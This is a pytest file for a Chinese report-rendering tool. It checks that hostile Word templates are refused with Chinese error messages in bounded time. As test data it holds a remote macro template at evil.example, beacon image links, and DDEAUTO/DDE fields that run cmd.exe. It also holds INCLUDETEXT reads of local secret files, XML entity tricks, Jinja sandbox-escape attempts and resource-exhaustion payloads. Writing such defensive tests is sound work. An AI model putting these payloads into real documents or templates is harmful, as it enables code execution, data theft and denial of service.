"""Templates passed between agencies, made hostile: each is refused by `template check` and by
the renderer on its own (no path around the check), with a Chinese message, in bounded time."""

from __future__ import annotations

import time
from html import escape
from pathlib import Path

import pytest

from xxgk_report import api
from xxgk_report.errors import TemplateError
from xxgk_report.model import load_report
from xxgk_report.render import render_docx
from xxgk_report.template_check import inspect_template

from . import docx_reader as dr
from .conftest import EXAMPLE, within


def body(xml_fragment: str):
    """A change of document.xml that adds `xml_fragment` (paragraphs) before the section end."""
    return {"word/document.xml": lambda xml: xml.replace("<w:sectPr", xml_fragment + "<w:sectPr", 1)}


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text, quote=False)}</w:t></w:r></w:p>'


def refused(path: Path, rule: str, words: str, seconds: int = 20) -> None:
    """The check names `rule` with `words` in its message, and the renderer refuses too."""
    with within(seconds):
        found = inspect_template(path).problems
    assert any(p.rule == rule and words in p.message for p in found), [str(p) for p in found]
    with within(seconds), pytest.raises(TemplateError) as info:
        render_docx(load_report(EXAMPLE), path)
    shown = str(info.value) + "".join(str(p) for p in info.value.problems)
    assert words in shown, shown


# --- item 4: remote templates, linked images and links, fields that reach outside ---------------

_SETTINGS_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                  'attachedTemplate" Target="http://evil.example/macros.dotm" TargetMode="External"/>'
                  '</Relationships>')


def test_m9_a_remote_attached_template_is_refused(package):
    path = package({"word/_rels/settings.xml.rels": _SETTINGS_RELS.encode(),
                    "word/settings.xml": lambda xml: xml.replace(
                        "<w:zoom", '<w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
                        'officeDocument/2006/relationships"/><w:zoom', 1)})
    refused(path, "M9", "'http://evil.example/macros.dotm'")


def test_m9_an_external_image_or_link_is_refused(package):
    def rels(xml: str) -> str:
        return xml.replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                           'officeDocument/2006/relationships/image" Target="https://beacon.example/p.png" '
                           'TargetMode="External"/></Relationships>')
    refused(package({"word/_rels/document.xml.rels": rels}), "M9", "https://beacon.example/p.png")


@pytest.mark.parametrize("instruction", [
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 'DDE cmd "/c calc"',
    'INCLUDETEXT "C:\\\\secret.txt"', 'INCLUDEPICTURE "http://beacon.example/p.png" \\d', 'LINK Excel.Sheet "x.xlsx"'])
def test_m10_fields_that_reach_outside_are_refused_even_split_over_runs(package, instruction):
    half = len(instruction) // 2
    field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
             f'<w:r><w:instrText xml:space="preserve"> {escape(instruction[:half])}</w:instrText></w:r>'
             f'<w:r><w:instrText xml:space="preserve">{escape(instruction[half:])} </w:instrText></w:r>'
             '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    refused(package(body(field)), "M10", instruction.split()[0] + " 域可能在打开或更新时读取外部文件")


def test_m10_a_simple_field_and_a_field_made_from_text_are_refused(package):
    simple = '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\x.txt&quot; "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    refused(package(body(simple)), "M10", "INCLUDETEXT 域可能")
    made = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
            "{{ 'INCLUDE' ~ 'TEXT' }} x</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")
    # a tag in a field code (not in the text) could make one: refused before it is compiled
    refused(package(body(made), name="made.docx"), "M2", "“{{”写在了正文文字以外")


def test_m10_macros_are_refused(package):
    refused(package({"word/vbaProject.bin": b"\0" * 64}), "M10", "宏、ActiveX 控件或嵌入的对象")


def test_a_link_to_a_bookmark_and_the_page_number_field_are_fine(package):
    fine = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK \\l "top" </w:instrText>'
            '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    path = package(body(fine))
    assert inspect_template(path).problems == ()
    assert render_docx(load_report(EXAMPLE), path)


# --- item 13: entities, unclosed tags -------------------------------------------------------


def test_m1_a_doctype_with_entities_is_refused(package):
    def doctype(xml: str) -> str:
        head, rest = xml.split("?>", 1)
        return head + '?><!DOCTYPE w:document [<!ENTITY e "悄悄加入的文字">]>' + rest.replace(
            "<w:sectPr", '<w:p><w:r><w:t>&e;</w:t></w:r></w:p><w:sectPr', 1)
    refused(package({"word/document.xml": doctype}), "M1", "DOCTYPE")


def test_m2_an_unclosed_tag_is_refused_instead_of_swallowing_the_title(package):
    def unclose(xml: str) -> str:
        return xml.replace("{{ line }}", "{{ line ", 1)
    path = package({"word/document.xml": unclose})
    assert "{{ line " in dr.parts(path.read_bytes())["word/document.xml"].decode()
    refused(path, "M2", "没有闭合")


# --- item 8: templates that would exhaust CPU or memory --------------------------------------

_EXHAUSTING = {
    "recursive macro": ("{% macro f(n) %}{% if n > 0 %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}"
                        "{{ f(60) }}", "M11", "循环或宏调用超过"),
    "nested loops": ("{% for a in overview %}" * 12 + "x" + "{% endfor %}" * 12, "M11", "循环或宏调用超过"),
    "doubling by ~": ("{% set s = agency %}" + "{% set s = s ~ s %}" * 40 + "{{ s|length }}", "M11", "超过 4000000 个字符"),
    "doubling by +": ("{% set s = agency %}" + "{% set s = s + s %}" * 40 + "{{ s|length }}", "M11", "超过 4000000 个字符"),
    "percent width": ("{{ '%300000000d' % 1 }}", "M11", "宽度或精度超过 1000"),
    "format width": ("{{ '{:>300000000}'.format(1) }}", "M11", "宽度或精度超过 1000"),
    "expandtabs": ("{{ ('\t' ~ agency).expandtabs(300000000) }}", "M11", "expandtabs"),
    "ljust": ("{{ (agency ~ '').ljust(300000000) }}", "M11", "超过 4000000 个字符"),
    "replace": ("{{ ('x' * 9000).replace('', 'y' * 9000) }}", "M11", "超过 4000000 个字符"),
    "replace filter": ("{{ ('x' * 9000)|replace('', 'y' * 9000) }}", "M11", "超过 4000000 个字符"),
    "join filter": ("{{ ([(agency ~ '') * 9000] * 9000)|join }}", "M7", "只能写常量"),
    "integer growth": ("{% set n = 99999999 %}" + "{% set n = n * n %}" * 40 + "{{ n }}", "M11", "乘法结果超过 4096 位"),
    "2000 openings": ("{{" * 2000, "M2", "没有闭合"),
    "32000 openings": ("{{" * 32000, "M2", "超过 6000 个"),
    "400 parentheses": ("{{ " + "(" * 400 + "1" + ")" * 400 + " }}", "M2", "超过 300 个"),
    "40 parentheses": ("{{ " + "(" * 40 + "1" + ")" * 40 + " }}", "M2", "嵌套 40 层，超过 16 层"),
    "400 ifs": ("{% if 1 %}" * 400 + "x" + "{% endif %}" * 400, "M2", "嵌套 400 层，超过 16 层"),
    "a very long tag": ("{{ " + " ~ ".join(["agency"] * 500) + " }}", "M2", "超过 300 个"),
    "many short tokens": ("{{ " + "~".join(["a"] * 140) + " }}", "M2", "超过 120 个"),
    "truncate": ("{{ title|truncate(1) }}", "M11", "AssertionError"),
    "attr format": ("{{ agency|attr('format') }}", "M7", "不允许过滤器 |attr"),
    "attr class": ("{{ agency|attr('__class__') }}", "M7", "不允许过滤器 |attr"),
    "printing a list": ("{{ overview }}", "M11", "模板印出的不是文字或数字（列表）"),
    "printing a method": ("{{ (agency ~ '').upper }}", "M11", "模板印出的不是文字或数字（函数或方法）"),
    "nested literal": ("{% set a = [agency, agency] %}{{ a|length }}", "M7", "只能写常量"),
    "loop filter": ("{% for p in overview if p.kind %}{% endfor %}", "M7", "不允许带条件的循环"),
}


@pytest.mark.parametrize("case", _EXHAUSTING)
def test_templates_that_would_exhaust_the_machine_are_refused_in_bounded_time(package, case):
    tag, rule, words = _EXHAUSTING[case]
    path = package(body(paragraph(tag)))
    start = time.monotonic()
    refused(path, rule, words)
    assert time.monotonic() - start < 30


def test_a_refused_template_is_a_clean_cli_error(run, package, tmp_path):
    path = package(body(paragraph("{{ '%300000000d' % 1 }}")))
    result = run(EXAMPLE, "-o", tmp_path / "out.docx", "--template", path)
    assert result.exit_code == 1
    assert "Traceback" not in result.output and not (tmp_path / "out.docx").exists()
    assert "宽度或精度超过 1000" in result.stderr


def test_constant_lists_and_ordinary_tags_still_work(package):
    tag = "{% if 'x' in ['x', 'y'] %}{{ agency|upper }}{{ '%.2f' % 1.5 }}{{ '{:>3}'.format(7) }}{% endif %}"
    path = package(body(paragraph(tag)))
    assert inspect_template(path).problems == ()
    text = "".join(p.text for p in dr.paragraphs(render_docx(load_report(EXAMPLE), path)))
    assert load_report(EXAMPLE).agency.upper() + "1.50  7" in text


def test_api_render_with_a_hostile_template_never_raises_anything_else(package):
    path = package(body(paragraph("{{ (agency ~ '')|list|join|truncate(0) }}")))
    with pytest.raises(TemplateError):
        api.render_report(EXAMPLE, template=str(path))
